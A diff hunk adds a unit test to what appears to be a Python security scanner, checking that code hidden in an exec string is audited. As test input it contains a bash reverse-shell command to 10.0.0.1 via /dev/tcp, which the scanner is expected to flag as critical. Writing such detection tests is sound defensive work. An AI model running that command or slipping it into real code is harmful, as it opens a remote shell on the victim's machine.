@@ -392,6 +392,14 @@ def test_multi_line_sink_is_reported_where_the_data_is() -> None:
     assert lines == {2, 3}
 
 
+def test_code_in_an_exec_string_is_audited_as_code() -> None:
+    """exec of a literal is judged by what the literal does, reported on the exec line."""
+    got = found("exec(\"import os; os.system('bash -i >& /dev/tcp/10.0.0.1/1 0>&1')\")\n")
+    assert ("reverse-shell", "critical", 1) in {(r, s, line) for r, s, _, line in got}
+    quiet = found("exec('x = 1 + 1')\n")
+    assert {r for r, _, _, _ in quiet} == {"dynamic-code"}
+
+
 def test_python2_source_is_refused_and_still_read_line_by_line() -> None:
     """Source that does not parse is high, and its statements are still judged per line."""
     got = found("import base64\nexec base64.b64decode('aWQ=')\nprint 'x'\nlen([])\n")
